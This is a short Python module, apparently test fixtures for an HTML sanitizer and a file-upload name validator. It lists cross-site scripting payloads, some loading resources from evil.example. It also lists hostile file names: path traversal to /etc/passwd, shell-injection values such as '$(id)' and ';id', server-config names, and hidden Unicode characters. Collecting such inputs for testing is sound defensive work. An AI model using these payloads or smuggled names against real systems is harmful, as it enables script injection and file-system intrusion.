"""Ways by which strangers have got into other people's cases, pages and disks."""

from __future__ import annotations

SCRIPTS = [
    "<img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg onload=alert(1)>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<iframe src='https://good.example@evil.example'></iframe>",
    "<form action=https://evil.example><button formaction=javascript:alert(1)>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p hx-get=/cases/ hx-trigger=load hx-on:click=alert(1) data-hx-post=/x>x</p>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<base href=https://evil.example><meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import 'https://evil.example';</style><link rel=prefetch href=https://evil.example>",
    "<p style='background:url(https://evil.example/x);position:fixed;behavior:url(x)'>x</p>",
]

# Names of files: paths, names that servers obey, characters that nobody sees, reserved words, and what is too long.
NAMES = [
    ".htaccess", "\u200b.htaccess", "\u200b.ht\u200baccess", "x.pht", "../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd",
    "C:\\autoexec.bat", "CON", "NUL.txt", "a\u202egnp.exe", "\ufeffx.php", "a b.txt", " .. ", ".", "..", "...", "\u2024\u2024/x",
    "．．／x", "a/b/c.txt", "a\\b\\c.txt", "x" * 300 + ".pdf", "\u0301.txt", "'\"><img src=x>.png", "%2e%2e%2fx", "~root", "-rf", "$(id)",
    "`id`", "|id", ";id", "&id", "x.php.png", "x.svg", "index.html", "web.config", ".user.ini", "\u2028x", "\u00adx.exe", "x\u200f.exe",
    "....//x", "..%2f..%2fx", "..%5c..%5cx", "a%00.png", "a;b.png", "http://evil.example/x.png", "file:///etc/passwd", "COM1.txt", "LPT1",
    "AUX.", "x.png.", "x.png ", "x.png::$DATA", "x.asp;.jpg", "\u2066x\u2069.exe", "\ufff9x", "e\u0301" * 90 + ".txt", "\U000e0041x.png",
    "<svg onload=alert(1)>.png", "\t\tx.png",
]  # fmt: skip
